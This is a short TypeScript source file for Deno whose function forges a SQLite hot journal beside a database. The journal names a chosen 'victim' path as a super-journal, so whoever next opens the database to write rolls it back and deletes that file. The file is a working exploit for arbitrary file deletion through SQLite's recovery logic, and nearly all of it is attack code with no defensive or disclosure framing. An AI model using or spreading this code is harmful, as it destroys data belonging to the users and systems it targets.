const MAGIC = Uint8Array.of(0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7);
const PAGE = 4096;
const SECTOR = 512;
/** Where SQLite's locks are, in no page of content. */
const LOCKING_AT = 0x40000000;

/**
 * Plants beside a database a hot journal that names a super-journal (SQLite's pager.c, writeSuperJournal): whoever
 * opens the database to write rolls it back, which changes nothing, and then removes the file of that name.
 */
export function plantSuperJournal(database: string, victim: string): void {
  const path = new TextEncoder().encode(victim);
  const sum = path.reduce((total, byte) => total + byte, 0);
  const header = new Uint8Array(SECTOR);
  header.set([...MAGIC, ...words(0, 1, Deno.statSync(database).size / PAGE, SECTOR, PAGE)]);
  const journal = [...header, ...words(LOCKING_AT / PAGE + 1), ...path, ...words(path.length, sum), ...MAGIC];
  Deno.writeFileSync(`${database}-journal`, Uint8Array.from(journal));
}

/** Numbers as 32 bits each, the highest first. */
function words(...values: readonly number[]): number[] {
  const bytes = new Uint8Array(values.length * 4);
  const view = new DataView(bytes.buffer);
  values.forEach((value, index) => view.setUint32(index * 4, value));
  return [...bytes];
}
